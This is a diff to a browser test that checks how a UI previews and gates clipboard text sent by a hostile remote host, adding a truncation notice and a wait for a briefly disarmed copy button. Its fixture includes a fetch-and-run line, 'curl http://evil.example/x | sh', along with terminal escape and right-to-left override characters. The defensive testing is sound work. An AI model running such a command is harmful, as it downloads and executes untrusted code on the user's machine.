@@ -151,10 +151,18 @@ def test_attack_a_hostile_host_cannot_write_the_agents_clipboard_without_the_but
         preview = browser.find_element(By.ID, "clip-preview").text
         # At most 200 characters, its controls escaped (the newline that would run it).
         assert preview.startswith("curl http://evil.example/x | sh\\n\\u{1b}[2J<b>not markup")
-        assert "\\u{202e}" in preview and preview.endswith("y...") and "\n" not in preview
+        assert "\\u{202e}" in preview and preview.endswith("y") and "\n" not in preview
         assert len(preview) < 230
+        cut = browser.find_element(By.ID, "clip-cut").text  # review39c: said apart
+        more = len(hostile) - 200
+        assert cut == f"...and {more} characters more, not shown (copied with the rest)"
         assert browser.find_elements(By.CSS_SELECTOR, "#clip-offer b") == []  # text, not markup
-        browser.find_element(By.ID, "clip-take").click()
+        take = browser.find_element(By.ID, "clip-take")
+        deadline = time.monotonic() + 5  # disarmed a moment after each text (review39c)
+        while not take.is_enabled():
+            assert time.monotonic() < deadline, "the button stayed disarmed"
+            time.sleep(0.05)
+        take.click()
         wait_page_notice(browser, f"The host's clipboard ({len(hostile)} characters) is on your"
                                   " clipboard")  # fmt: skip
         assert _browser_clipboard(browser) == hostile
